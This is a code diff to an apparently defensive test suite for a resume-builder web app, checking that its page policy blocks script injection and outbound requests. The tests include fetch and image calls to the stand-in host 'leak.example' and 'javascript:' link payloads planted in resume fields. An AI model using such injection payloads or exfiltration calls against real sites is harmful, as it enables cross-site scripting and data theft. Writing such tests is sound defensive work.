@@ -1,6 +1,6 @@
-import { createResume } from '@vitae/domain';
+import { createResume, newId } from '@vitae/domain';
 import { type Attack, attack, gain, lateAttack } from '../attack.ts';
-import { refusedBy, tried, withHtml } from '../in-page.ts';
+import { go, refusedBy, tried, withHtml } from '../in-page.ts';
 
 /** Requests of a script in the page: the policy refuses them before anything asks the program. */
 const requests: readonly [string, () => unknown][] = [
@@ -91,14 +91,14 @@ export const content: readonly Attack[] = [
       'it has another domain',
     ),
   ),
-  attack('without its policy, the page sends something out', async ({ bare, control }) => {
+  attack('without its policy, the page sends something out', async ({ attempts, bare }) => {
     const page = await bare();
-    const before = (await control.attempts()).length;
+    const before = (await attempts()).length;
     await page.evaluate(async () => {
       await fetch('https://leak.example/bare', { mode: 'no-cors' }).catch(() => '');
       await new Promise((resolve) => Object.assign(new Image(), { onerror: resolve, onload: resolve, src: 'https://leak.example/bare.png' }));
     });
-    const asked = (await control.attempts()).slice(before);
+    const asked = (await attempts()).slice(before);
     return gain(asked.length < 2, 'the program was not asked');
   }),
   lateAttack('a link downloads a file', async ({ page }) => {
@@ -110,17 +110,25 @@ export const content: readonly Attack[] = [
     });
     return '';
   }),
-  attack('a document has a script in every text', async ({ call, canary, page, control }) => {
+  attack('a document has a script in every text', async (computer) => {
+    const { call, home, page } = computer;
     const doc = createResume({ title: payload }, '2026-01-01T00:00:00.000Z');
-    doc.basics = { ...doc.basics, fullName: payload, headline: payload, email: payload, phone: payload, links: [{ id: 'l1', label: payload, url: 'javascript:globalThis.pwned="link"' }] };
+    doc.slug = 'attacked';
+    doc.basics = { ...doc.basics, fullName: payload, headline: payload, email: payload, phone: payload, links: [{ id: newId(), label: payload, url: 'javascript:globalThis.pwned="link"' }] };
     doc.summary = `${payload} [link](javascript:globalThis.pwned="markdown")`;
     doc.target.jobTitle = payload;
     const created = await call('documents.create', doc);
-    if (!created.ok) return `the document was not taken: ${created.error.message}`;
-    await page.getByText('onerror').first().waitFor();
-    const asked = await tried({ control } as never, 'leak.example/text');
+    if (!created.ok) return `the document was not taken, and this row proves nothing: ${created.error.message}`;
+    const shown = (): Promise<unknown> =>
+      page.waitForFunction(() => [...document.querySelectorAll('input, textarea, main')].some((field) => ('value' in field ? String(field.value) : field.textContent).includes('onerror')));
+    await shown();
+    await go(page, '/resume/builder/attacked/summary');
+    await page.waitForURL(/attacked/);
+    await shown();
+    await page.waitForTimeout(200);
+    const harm = [await tried(computer, 'leak.example/text'), await page.evaluate(() => String((globalThis as { pwned?: unknown }).pwned ?? ''))];
     await call('documents.purge', doc.id);
-    await page.getByText('onerror').first().waitFor({ state: 'detached' });
-    return gain(asked !== '' || canary.id === doc.id, asked);
+    await home();
+    return harm.join('');
   }),
 ];
